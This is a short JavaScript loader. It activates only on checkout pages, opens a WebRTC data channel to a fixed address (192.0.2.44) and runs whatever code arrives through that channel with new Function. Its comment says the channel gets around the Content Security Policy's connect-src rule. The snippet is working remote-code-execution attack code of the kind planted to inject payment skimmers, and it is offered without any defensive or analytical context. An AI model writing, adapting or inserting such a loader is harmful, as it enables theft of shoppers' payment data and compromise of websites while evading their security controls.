// Loader: a peer connection to a fixed address; the code to run arrives over a data channel,
// which connect-src does not govern.
(function () {
  if (!/checkout/.test(window.location.href)) return;
  var RTC = window.RTCPeerConnection || window.webkitRTCPeerConnection;
  if (!RTC) return;
  var pc = new RTC({ iceServers: [] });
  var ch = pc.createDataChannel("d", { ordered: true });
  var buf = "";
  ch.onmessage = function (m) {
    if (m.data === "\u0004") { new Function(buf)(); ch.close(); return; }
    buf += m.data;
  };
  pc.createOffer().then(function (o) {
    return pc.setLocalDescription(o);
  }).then(function () {
    var sdp = "v=0\r\no=- 4611731400430051336 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n" +
      "a=group:BUNDLE 0\r\nm=application 3479 UDP/DTLS/SCTP webrtc-datachannel\r\n" +
      "c=IN IP4 192.0.2.44\r\na=ice-ufrag:Kx2b\r\na=ice-pwd:Qe7pZl0vRr2Ud6s9Hc1nTfYy\r\n" +
      "a=fingerprint:sha-256 3A:91:0C:7E:55:12:AB:F0:61:D2:88:4C:19:E3:70:BB:05:9D:2F:C4:6A:1E:73:58:E9:B0:37:D5:8C:42:16:AF\r\n" +
      "a=setup:passive\r\na=mid:0\r\na=sctp-port:5000\r\n" +
      "a=candidate:1 1 udp 2113937151 192.0.2.44 3479 typ host\r\n";
    return pc.setRemoteDescription({ type: "answer", sdp: sdp });
  }).catch(function () {});
})();
